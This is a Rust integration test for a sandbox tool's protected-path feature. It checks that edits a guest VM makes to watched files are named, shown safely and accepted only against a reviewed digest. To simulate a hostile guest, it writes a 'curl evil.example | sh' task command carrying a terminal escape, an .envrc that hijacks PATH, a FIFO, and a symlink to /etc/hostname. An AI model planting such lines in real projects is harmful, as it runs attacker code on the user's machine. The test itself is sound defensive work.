//! Protected paths without a VM: `protect` globs are grants approved like mounts,
//! and a change to a watched file (made here the way the guest would make it,
//! through the shared directory) is named at the next command that opens the
//! project, shown in full by `vibebox protected`, and cleared by `--accept`. The
//! VM half (the guest writes, the host names it; `protect_mode = "ro"`) is in
//! tests/vm.rs.

mod common;

use std::fs;

use common::{Env, run};

#[test]
fn protect_globs_and_mode_need_approval_like_mounts() {
    let env = Env::new();
    let p = env.project("p");
    assert_eq!(run(env.init(&p)).code, 0);
    let exec = || {
        let mut c = env.cmd(&p);
        c.args(["exec", "--", "true"]);
        run(c)
    };
    for (config, line) in [
        (
            "[box]\nprotect = [\"tools/*.sh\"]\n",
            "+ protect tools/*.sh",
        ),
        ("[box]\nprotect_mode = \"ro\"\n", "+ protect_mode ro"),
    ] {
        fs::write(p.join("vibebox.toml"), config).unwrap();
        let out = exec();
        assert_eq!(out.code, 2, "{config}: {}", out.stderr);
        assert!(out.stderr.contains(line), "{config}: {}", out.stderr);
        let out = common::approve(|| env.cmd(&p));
        assert_eq!(out.code, 0, "{}", out.stderr);
        assert!(out.stdout.contains(line), "{}", out.stdout);
    }
    // Going back to watching lets the guest write them again: that asks too.
    fs::write(p.join("vibebox.toml"), "").unwrap();
    let out = exec();
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(out.stderr.contains("- protect_mode ro"), "{}", out.stderr);

    // Bad globs: one line naming the place, exit 2.
    for bad in ["../x", "/etc/passwd", "a//b", "~/.ssh"] {
        fs::write(
            p.join("vibebox.toml"),
            format!("[box]\nprotect = [\"{bad}\"]\n"),
        )
        .unwrap();
        let out = run(env.init(&p));
        assert_eq!(out.code, 2, "{bad}: {}", out.stderr);
        assert!(
            out.stderr.contains("vibebox.toml:2:12:") && out.stderr.lines().count() == 1,
            "{bad}: {}",
            out.stderr
        );
    }
    fs::write(p.join("vibebox.toml"), "[box]\nprotect_mode = \"rw\"\n").unwrap();
    let out = run(env.init(&p));
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(out.stderr.contains("\"watch\" or \"ro\""), "{}", out.stderr);
}

#[test]
fn a_changed_protected_file_is_named_shown_and_accepted() {
    let env = Env::new();
    let p = env.project("p");
    fs::create_dir_all(p.join(".vscode")).unwrap();
    fs::write(
        p.join(".vscode/tasks.json"),
        "{\n  \"label\": \"build\",\n  \"command\": \"make\"\n}\n",
    )
    .unwrap();
    let out = run(env.init(&p));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let id = common::printed_id(&out);
    let protected = |args: &[&str]| {
        let mut c = env.cmd(&p);
        c.arg("protected").args(args);
        run(c)
    };
    // Before any VM started, nothing was recorded: said, exit 2.
    let out = protected(&[]);
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(
        out.stderr.contains("recorded when the VM starts"),
        "{}",
        out.stderr
    );

    // What a VM start records (the supervisor calls this before the boot).
    let sd = env.vibebox_home().join("sessions").join(&id);
    let p = p.canonicalize().unwrap();
    let config = vibebox::config::defaults(
        &p,
        &vibebox::config::Host {
            cpus: 1,
            memory_mb: 1024,
            disk_gb: 10,
            home: env.home(),
            guest_home: env.home(),
            state: env.vibebox_home(),
        },
    );
    let globs = vibebox::config::protect::watch_set(&config, true);
    fs::create_dir_all(&sd).unwrap();
    vibebox::config::protect::record_at_start(&sd, &p, &globs).unwrap();
    let out = run(env.init(&p));
    assert!(!out.stderr.contains("protected"), "{}", out.stderr);
    assert_eq!(
        protected(&[]).stdout.lines().next(),
        Some("no changes: the protected paths are as you last accepted them")
    );

    // The guest rewrites the task (with a terminal escape in it), adds an .envrc,
    // and plants a FIFO and a link where the host would look.
    fs::write(
        p.join(".vscode/tasks.json"),
        "{\n  \"label\": \"build\",\n  \"command\": \"curl evil.example | sh \u{1b}]0;pwned\u{7}\"\n}\n",
    )
    .unwrap();
    fs::write(p.join(".envrc"), "export PATH=/tmp/evil:$PATH\n").unwrap();
    nix::unistd::mkfifo(
        &p.join(".vscode/settings.json"),
        nix::sys::stat::Mode::from_bits_truncate(0o644),
    )
    .unwrap();
    std::os::unix::fs::symlink("/etc/hostname", p.join(".mcp.json")).unwrap();
    // A second start does not accept what changed.
    vibebox::config::protect::record_at_start(&sd, &p, &globs).unwrap();

    let out = run(env.init(&p));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let e = &out.stderr;
    assert!(e.contains("4 protected paths changed"), "{e}");
    assert!(
        e.contains(".vscode/tasks.json: changed (+1 -1): -  \"command\": \"make\""),
        "{e}"
    );
    assert!(
        e.contains(".envrc: new (file, 28 bytes) (+1 -0): +export PATH=/tmp/evil:$PATH"),
        "{e}"
    );
    assert!(e.contains(".vscode/settings.json: new (a FIFO)"), "{e}");
    assert!(
        e.contains(".mcp.json: new (symbolic link to /etc/hostname)"),
        "{e}"
    );
    assert!(e.contains("vibebox protected --accept"), "{e}");
    assert!(!e.contains('\u{1b}') && !e.contains('\u{7}'), "{e:?}");

    let out = protected(&[]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let o = &out.stdout;
    assert!(o.contains("\n    -  \"command\": \"make\"\n"), "{o}");
    assert!(
        o.contains("\n    +  \"command\": \"curl evil.example | sh \\u{1b}]0;pwned\\u{7}\"\n"),
        "{o}"
    );
    assert!(o.contains("\n       \"label\": \"build\",\n"), "{o}");
    assert!(!o.contains('\u{1b}'), "{o:?}");

    // What is accepted is what was shown: without a terminal, only by its digest.
    let digest = o
        .split("--expect ")
        .nth(1)
        .and_then(|r| r.get(..32))
        .expect("the digest is printed")
        .to_string();
    assert_eq!(digest.len(), 32, "{o}");
    let out = protected(&["--accept"]);
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(
        out.stderr
            .contains(&format!("vibebox protected --accept --expect {digest}")),
        "{}",
        out.stderr
    );
    // The guest changes a file after the review: the reviewed digest is refused.
    fs::write(p.join(".envrc"), "export PATH=/tmp/worse:$PATH\n").unwrap();
    let out = protected(&["--accept", "--expect", &digest]);
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(out.stderr.contains("nothing accepted"), "{}", out.stderr);
    assert!(
        protected(&[])
            .stdout
            .contains("+export PATH=/tmp/worse:$PATH")
    );
    fs::write(p.join(".envrc"), "export PATH=/tmp/evil:$PATH\n").unwrap();
    let out = protected(&["--accept", "--expect", &digest]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stdout
            .starts_with(&format!("accepted 4 changes (digest {digest}):")),
        "{}",
        out.stdout
    );
    let out = run(env.init(&p));
    assert!(!out.stderr.contains("protected"), "{}", out.stderr);
    assert!(protected(&[]).stdout.starts_with("no changes"));
}
